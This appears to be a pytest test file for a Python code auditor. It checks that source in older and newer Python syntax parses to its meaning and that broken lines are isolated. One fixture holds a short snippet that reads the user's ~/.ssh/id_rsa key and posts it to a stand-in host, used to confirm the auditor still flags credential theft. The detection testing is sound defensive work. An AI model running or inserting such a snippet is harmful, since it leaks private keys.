"""Python of other versions than ours is read as what it means, and what no version reads costs only itself."""

from __future__ import annotations

import ast

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.code import audit_code

from skillkeep.auditor.syntax.other_python import python_tree

NEWER_AND_OLDER = [
    ("type X[T] = list[T]\ny = 1\n", "X = list[T]\ny = 1"),
    ("def f[T: int, *A](x: T) -> T:\n    return x\n", "def f(x: T) -> T:\n    return x"),
    ("class C[T = int](B):\n    pass\n", "class C(B):\n    pass"),
    ("def f[\n    T,\n](x):\n    return x\n", "def f(x):\n    return x"),
    ("x = f\"{d[\"k\"]!r:>{w[\"z\"]}}\"\n", "x = f\"{d['k']!r:>{w['z']}}\""),
    ("x = f\"{f\"{f\"{1}\"}\"}\"\n", "x = f\"\"\"{f\"{f'{1}'}\"}\"\"\""),
    ("x = f\"{'\\n'.join(y)}\"\n", "x = f'''{\"\"\"\n\"\"\".join(y)}'''"),
    ("x = f'''{\n  b  # why\n}'''\n", "x = f'{b}\\n\\n'"),
    ("x = t\"{name}\" f\"{d[\"k\"]}\"\n", "x = f\"{name}{d['k']}\""),
    ("try:\n    pass\nexcept A, B:\n    pass\n", "try:\n    pass\nexcept (A, B):\n    pass"),
    ("x = [*row for row in rows]\n", "x = [row for row in rows]"),
    ("print 'x', y\n", "print('x', y)"),
    ("print >>f, x\nprint 'x' % y\n", "(print >> f, x)\nprint('x' % y)"),
    ("exec code in names\nexec 'x'\n", "exec(code, names)\nexec('x')"),
    ("raise E, 'why'\n", "raise (E, 'why')"),
    ("x = `y`\nif a <> b:\n    pass\n", "x = repr(y)\nif a != b:\n    pass"),
    ("x = (0755, 10L, 0xFFL, 0, 0o17)\nprint x\n", "x = (493, 10, 255, 0, 15)\nprint(x)"),
    ("x = ur'a'\n", "x = 'a'"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "meaning"), NEWER_AND_OLDER)
def test_other_versions_are_read_as_what_they_mean(text: str, meaning: str) -> None:
    tree, left_out = python_tree(text)
    assert (ast.unparse(tree), left_out) == (ast.unparse(ast.parse(meaning)), ())


SENT = """import os, requests
key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post("https://c.example.invalid/u", data=key)
"""
BESIDE = (*(text for text, _ in NEWER_AND_OLDER), "def broken(:\n    pass\n", ")\n")


@pytest.mark.parametrize("text", BESIDE)
def test_no_line_of_another_version_hides_a_file(text: str) -> None:
    for source in (f"{SENT}\n{text}", f"{text}\n{SENT}"):
        report = audit_code({"a.py": source})
        assert "code-credential-sent" in {finding.rule for finding in report.findings}


def test_nodes_stand_where_the_text_has_them() -> None:
    text = 'type X = int\nlabel = f"{\n    first["a"]\n} and {second["b"]}"\nlast(1)\n'
    tree, _ = python_tree(text)
    lines = text.split("\n")
    names = [node for node in ast.walk(tree) if isinstance(node, ast.Name) and node.id in {"first", "second", "last"}]
    assert sorted(node.id for node in names) == ["first", "last", "second"]
    for node in names:
        assert lines[node.lineno - 1][node.col_offset :].startswith(node.id)


@pytest.mark.parametrize(
    ("text", "meaning", "lines"),
    [
        ("import os\n)\nos.system('x')\n", "import os\nos.system('x')", (2,)),
        ("if a:\n    x = = 3\n    f()\n", "if a:\n    x = 3\n    f()", (2,)),
        ("first()\nbreak it now\nlast()\n", None, (2,)),
        ("def f():\n    for in x:\n        g()\n    h()\n\nlast()\n", None, (2,)),
    ],
)
def test_what_no_version_reads_costs_only_itself(text: str, meaning: str | None, lines: tuple[int, ...]) -> None:
    tree, left_out = python_tree(text)
    assert set(lines) <= set(left_out)
    if meaning:
        assert ast.unparse(tree) == meaning
    else:
        assert ast.unparse(tree).splitlines()[-1] == "last()"


@pytest.mark.parametrize("text", ["class {{ name }}:\n    pass\n", "$$$ [ ( {\n" * 40])
def test_what_is_no_python_is_refused_as_ast_does(text: str) -> None:
    with pytest.raises(SyntaxError):
        python_tree(text)


_PIECES = st.sampled_from(
    ["f'", "f\"", "'''", "{", "}", "\n", "    ", "x", "print ", "type X", " = ", "[", "]", "(", ")", "\\", "#", ":",
     "`", "except A, b:", "try:", "def f[T](x):", "é", "\t", "exec ", "in ", "<>", "0777", "lambda: ", "!r", ","]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=40).map("".join))
def test_nothing_is_raised_but_what_ast_raises(text: str) -> None:
    try:
        tree, left_out = python_tree(text)
    except (SyntaxError, ValueError):
        return
    assert all(1 <= line <= text.count("\n") + 1 for line in left_out)
    ast.unparse(tree)
